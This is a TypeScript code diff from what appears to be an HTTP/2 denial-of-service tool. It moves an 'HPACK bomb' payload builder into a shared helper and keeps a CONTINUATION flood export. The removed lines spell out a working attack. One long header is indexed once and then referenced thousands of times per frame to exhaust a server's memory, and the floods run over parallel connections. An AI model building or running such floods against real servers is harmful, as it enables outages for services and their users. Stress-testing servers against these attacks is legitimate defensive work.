@@ -1,6 +1,16 @@
 /** Floods of frames of HTTP/2, each over four connections. */
 import type { Socket } from 'node:net';
-import { callHeaders, END_HEADERS, END_STREAM, FRAME, h2Connect, h2Frame, plainHeader, pour } from '../h2-frames.js';
+import {
+  callHeaders,
+  END_HEADERS,
+  END_STREAM,
+  FRAME,
+  h2Connect,
+  h2Frame,
+  hpackFrames,
+  plainHeader,
+  pour,
+} from '../h2-frames.js';
 import type { Attack } from '../scenario.js';
 
 const AT_ONCE = 4;
@@ -74,20 +84,4 @@ export const continuationFlood = flood(() => {
   };
 });
 
-/** A long header is named once, and then by one byte each time. */
-export const hpackBomb = flood(() => {
-  let stream = -1;
-  const value = 'v'.repeat(3_000);
-  const length = Buffer.from([0x7f, ...varint(value.length - 127)]);
-  const named = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('x'), length, Buffer.from(value)]);
-  const again = Buffer.alloc(12_000, 0x80 | 62);
-  return () => {
-    stream += 2;
-    const headers = Buffer.concat([callHeaders(PATH), ...(stream === 1 ? [named] : []), again]);
-    return h2Frame(FRAME.headers, END_HEADERS | END_STREAM, stream, headers);
-  };
-});
-
-function varint(value: number): number[] {
-  return value < 128 ? [value] : [(value & 127) | 128, ...varint(value >>> 7)];
-}
+export const hpackBomb = flood(hpackFrames);
